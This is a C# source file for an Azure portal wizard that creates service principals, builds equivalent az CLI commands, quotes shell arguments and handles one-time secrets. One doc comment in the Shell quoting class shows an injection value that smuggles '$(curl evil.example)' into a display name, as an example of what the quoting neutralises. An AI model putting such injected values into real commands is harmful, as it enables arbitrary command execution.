using System.Text.Json;
using System.Text.Json.Serialization;

namespace LockboxPortal.Application.ServicePrincipals;

public enum ResourceGroupMode
{
    /// <summary>Create it (like <c>az group create</c>; an existing group in the same location is reused).</summary>
    New,
    /// <summary>It must exist already.</summary>
    Existing,
}

public enum CredentialLifetimeKind
{
    Years,
    EndDate,
}

/// <summary>How long a new password credential lives: whole years from now (default 1), or until a date (00:00 UTC).</summary>
public sealed record CredentialLifetime
{
    public CredentialLifetimeKind Kind { get; set; } = CredentialLifetimeKind.Years;
    public int Years { get; set; } = 1;
    public DateOnly? EndDate { get; set; }

    /// <summary>
    /// The credential's end. Years count calendar years in UTC, so a credential made on 29 February ends on
    /// 28 February of a common year; an end date means midnight UTC at its start, as <c>az --end-date</c> reads it.
    /// </summary>
    public DateTimeOffset EndFrom(DateTimeOffset now) => Kind switch
    {
        CredentialLifetimeKind.EndDate when EndDate is { } d => new DateTimeOffset(d.ToDateTime(TimeOnly.MinValue), TimeSpan.Zero),
        _ => TruncateToSeconds(now.ToUniversalTime().AddYears(Years)),
    };

    private static DateTimeOffset TruncateToSeconds(DateTimeOffset t) => new(t.Ticks - t.Ticks % TimeSpan.TicksPerSecond, TimeSpan.Zero);
}

/// <summary>The one model the wizard collects and hands to <see cref="ServicePrincipalService.CreateAsync"/>.</summary>
public sealed record CreateServicePrincipalCommand
{
    public string SubscriptionId { get; set; } = "";
    public ResourceGroupMode ResourceGroupMode { get; set; } = ResourceGroupMode.New;
    public string ResourceGroupName { get; set; } = "";
    public string Location { get; set; } = "";
    public string DisplayName { get; set; } = "";

    /// <summary>Further scopes for the same role, e.g. the VNet's resource group when it lives elsewhere.</summary>
    public List<string> ExtraScopes { get; set; } = [];
    public CredentialLifetime Lifetime { get; set; } = new();

    public string Role => Domain.ServicePrincipals.AzureRoles.Contributor;
    public string Scope => Domain.ServicePrincipals.ServicePrincipalScopes.ResourceGroup(SubscriptionId.Trim(), ResourceGroupName.Trim());

    public IReadOnlyList<string> AllScopes =>
        [Scope, .. ExtraScopes.Select(s => s.Trim()).Where(s => s.Length > 0)];

    /// <summary>The Azure CLI commands that do the same, for the review step.</summary>
    public string AzCliEquivalent(DateTimeOffset now)
    {
        var lines = new List<string>();
        if (ResourceGroupMode == ResourceGroupMode.New)
            lines.Add($"az group create --subscription {Shell.Word(SubscriptionId.Trim())} -n {Shell.Word(ResourceGroupName.Trim())} -l {Shell.Word(Location)}");
        var lifetime = Lifetime.Kind == CredentialLifetimeKind.EndDate && Lifetime.EndDate is { } d
            ? $"--end-date {d:yyyy-MM-dd}"
            : $"--years {Lifetime.Years}";
        var scopes = string.Join(' ', AllScopes.Select(Shell.Quoted));
        lines.Add($"az ad sp create-for-rbac -n {Shell.Quoted(DisplayName.Trim())} --role contributor --scopes {scopes} {lifetime}");
        return string.Join('\n', lines);
    }
}

/// <summary>
/// Quoting for bash and zsh, so a command copied from the portal passes each value as one argument and runs
/// nothing else: a display name such as <c>x" $(curl evil.example) "</c> stays a name.
/// </summary>
public static class Shell
{
    /// <summary>Bare when only characters the shell never interprets; otherwise quoted.</summary>
    public static string Word(string value) =>
        value.Length > 0 && value.All(c => char.IsAsciiLetterOrDigit(c) || c is '-' or '_' or '.' or '/' or ':' or '@' or ',' or '+')
            ? value
            : Quoted(value);

    /// <summary>
    /// In double quotes when nothing inside expands there (no <c>$</c>, backtick, backslash, <c>"</c> or history
    /// <c>!</c>); else in single quotes, where nothing expands, with each <c>'</c> written as <c>'\''</c>.
    /// </summary>
    public static string Quoted(string value) =>
        value.Any(c => c is '"' or '$' or '`' or '\\' or '!')
            ? "'" + value.Replace("'", "'\\''") + "'"
            : $"\"{value}\"";
}

/// <summary>A new password for an existing service principal; replace drops the old ones, append keeps them.</summary>
public sealed record RotateCredentialCommand
{
    public bool Append { get; set; }
    public CredentialLifetime Lifetime { get; set; } = new();
}

/// <summary>
/// The one-time result, in the shape <c>az ad sp create-for-rbac</c> prints. The password lives only in this
/// object: it is never stored, logged or audited, and <see cref="ToString"/> leaves it out.
/// </summary>
public sealed record ServicePrincipalSecret(
    string AppId,
    string DisplayName,
    string Name,
    string Password,
    string Tenant,
    Guid KeyId,
    string Hint,
    DateTimeOffset EndsAt)
{
    /// <summary>Set when the secret was made but something around it needs the person's attention.</summary>
    public string? Warning { get; init; }

    private static readonly JsonSerializerOptions Indented = new() { WriteIndented = true };

    /// <summary>Exactly <c>{appId, displayName, name, password, tenant}</c>.</summary>
    public string ToAzJson() => JsonSerializer.Serialize(new AzShape(AppId, DisplayName, Name, Password, Tenant), Indented);

    public override string ToString() => $"ServicePrincipalSecret {{ AppId = {AppId}, DisplayName = {DisplayName}, KeyId = {KeyId}, Hint = {Hint}, EndsAt = {EndsAt:O} }}";

    private sealed record AzShape(
        [property: JsonPropertyName("appId")] string AppId,
        [property: JsonPropertyName("displayName")] string DisplayName,
        [property: JsonPropertyName("name")] string Name,
        [property: JsonPropertyName("password")] string Password,
        [property: JsonPropertyName("tenant")] string Tenant);
}

public sealed record CredentialDto(Guid KeyId, string Hint, DateTimeOffset StartsAt, DateTimeOffset EndsAt);

public sealed record ServicePrincipalDto(
    Guid Id,
    string DisplayName,
    Guid AppId,
    string Role,
    IReadOnlyList<string> Scopes,
    string Directory,
    DateTimeOffset CreatedAt,
    string CreatedByName,
    IReadOnlyList<CredentialDto> Credentials,
    DateTimeOffset? CredentialEndsAt,
    int? ExpiresInDays,
    bool IsExpiring,
    bool IsExpired,
    Guid Version);

public sealed record ServicePrincipalListQuery
{
    public int Page { get; init; }
    public int PageSize { get; init; } = 25;
}

public sealed record ResourceGroupDto(string SubscriptionId, string Name, string Location);
